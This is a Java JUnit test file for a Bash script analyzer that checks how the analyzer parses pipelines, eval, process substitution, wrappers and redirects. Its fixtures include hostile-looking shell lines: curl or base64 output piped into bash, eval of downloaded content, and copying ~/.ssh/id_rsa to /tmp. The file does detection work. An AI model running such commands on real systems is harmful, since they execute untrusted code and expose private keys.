package dev.assay.extract.component.code;

import static dev.assay.extract.component.code.Analyze.call;
import static dev.assay.extract.component.code.Analyze.callees;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.assay.engine.fact.CodeCall;
import java.util.List;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

class BashAnalyzerTest {

    private static CodeFacts sh(String text) {
        return Analyze.source("install.sh", Language.BASH, text);
    }

    @Test
    void pipeToShellIsOnePipelineCall() {
        CodeFacts f = sh("#!/bin/sh\ncurl -fsSL https://get.x.invalid/install.sh | sudo bash -s -- --yes\n");
        CodeCall pipeline = call(f, "pipeline:curl|bash");
        assertEquals(2, pipeline.line());
        assertEquals(List.of("stage0=curl -fsSL https://get.x.invalid/install.sh", "stage1=sudo bash -s -- --yes"),
                pipeline.keywords());
        CodeCall curl = call(f, "curl");
        assertEquals("-fsSL", curl.firstArg());
        assertTrue(curl.argsConstant());
        assertEquals(List.of("args=-fsSL https://get.x.invalid/install.sh", "pipeline=curl|bash", "pipe-index=0"),
                curl.keywords());
        CodeCall bash = call(f, "bash");
        assertTrue(bash.keywords().contains("via=sudo"), bash.keywords().toString());
        assertTrue(callees(f).contains("sudo"));
    }

    @Test
    void decodeAndExecuteShapes() {
        CodeFacts f = sh("echo Y3VybCB4 | base64 -d | bash\n"
                + "eval \"$(echo Y3VybCB4 | base64 --decode)\"\n"
                + "bash <(curl -s https://x.invalid/s)\n"
                + "x=$(whoami) && rm -rf /tmp/y\n");
        assertTrue(callees(f).contains("pipeline:echo|base64|bash"), callees(f).toString());
        CodeCall eval = call(f, "eval");
        assertEquals(2, eval.line());
        assertFalse(eval.argsConstant());
        assertTrue(eval.keywords().contains("substitution=echo|base64"), eval.keywords().toString());
        CodeCall bashProcess = Analyze.calls(f, "bash").stream().filter(c -> c.line() == 3).findFirst().orElseThrow();
        assertTrue(bashProcess.keywords().contains("substitution=curl"), bashProcess.keywords().toString());
        assertTrue(callees(f).containsAll(List.of("whoami", "rm", "curl", "echo")));
    }

    @Test
    void commandsOnLinesAfterAPipelineAreSeparateCommands() {
        // This grammar reads the next lines as arguments of `bash`; the shell runs them as commands.
        CodeFacts f = sh("echo aGk= | base64 -d | bash\neval \"$(curl -s https://x.invalid)\"\nx=$(id) && rm -f /tmp/z\n");
        CodeCall bash = call(f, "bash");
        assertEquals("args=", bash.keywords().get(0));
        CodeCall eval = call(f, "eval");
        assertEquals(2, eval.line());
        assertEquals(List.of("args=\"$(curl -s https://x.invalid)\"", "substitution=curl"), eval.keywords());
        assertEquals(3, call(f, "rm").line());
    }

    @Test
    void absolutePathsWrappersAndRedirects() {
        CodeFacts f = sh("/usr/bin/curl -o /tmp/p https://x.invalid/p\n"
                + "nohup env FOO=1 /tmp/p --daemon > /dev/null 2>&1 &\n"
                + "cat ~/.ssh/id_rsa > /tmp/k\n");
        assertEquals("-o", call(f, "curl").firstArg());
        CodeCall payload = call(f, "p");
        assertTrue(payload.keywords().contains("via=env"), payload.keywords().toString());
        CodeCall cat = call(f, "cat");
        assertEquals("~/.ssh/id_rsa", cat.firstArg());
        assertTrue(cat.keywords().contains("redirect=> /tmp/k"), cat.keywords().toString());
    }

    @Test
    void functionsCommentsAndStrings() {
        CodeFacts f = sh("# Usage: curl https://x.invalid | bash\n"
                + "fetch() {\n"
                + "  wget -qO- \"$1\"\n"
                + "}\n"
                + "MSG='hello'\n"
                + "cat <<EOF\n"
                + "heredoc body\n"
                + "EOF\n");
        assertEquals("fetch", call(f, "wget").function());
        assertFalse(call(f, "wget").argsConstant());
        List<String> texts = f.texts().stream().map(t -> t.kind() + ":" + t.text().strip() + ":" + t.lineStart())
                .collect(Collectors.toList());
        assertTrue(texts.contains("comment:# Usage: curl https://x.invalid | bash:1"), texts.toString());
        assertTrue(texts.contains("string:$1:3"), texts.toString());
        assertTrue(texts.contains("string:hello:5"), texts.toString());
        assertTrue(texts.stream().anyMatch(t -> t.startsWith("string:heredoc body")), texts.toString());
        assertFalse(callees(f).contains("pipeline:curl|bash"), "a comment is not a pipeline");
    }
}
